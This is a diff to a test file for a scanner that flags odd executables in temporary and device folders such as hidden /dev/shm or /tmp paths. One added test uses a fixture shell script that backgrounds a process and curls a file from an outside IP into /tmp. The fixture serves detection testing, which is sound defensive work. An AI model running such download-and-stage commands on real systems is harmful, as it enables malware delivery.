@@ -17,6 +17,12 @@ describe('odd-file', () => {
     expect(shown(report).sort()).toEqual(['high /dev/shm/.x/kdev', 'low /tmp/make', 'medium /dev/.lib/log', 'medium /dev/nul', 'medium /dev/shm/run', 'medium /tmp/.hid/a', 'medium /tmp/job.sh']);
   });
 
+  it('takes the scripts of another Linux in a temporary folder for one heap', async () => {
+    const script = { text: '#!/bin/sh\nnohup x &\ncurl -s http://198.51.100.4/x > /tmp/x\n', mode: 0o755 };
+    const report = await scanRoot([oddFile], { '/tmp/root/var/lib/dpkg/status': 'Package: x\n', '/tmp/root/usr/sbin/one': script, '/tmp/root/usr/sbin/two': script });
+    expect(report.findings.map(({ level, path }) => `${level} ${path}`)).toEqual(['low /tmp/root']);
+  });
+
   it('is silent for what tools and packages leave', async () => {
     expect(shown(await scanRoot([oddFile], { '/tmp/node_modules/esbuild/bin/esbuild': elf, '/tmp/notes.txt': 'x', '/dev/shm/PostgreSQL.123': 'x', '/tmp/text': { text: 'no program', mode: 0o777 }, '/usr/bin/tool': { ...elf, package: 'tool' } }))).toEqual([]);
   });
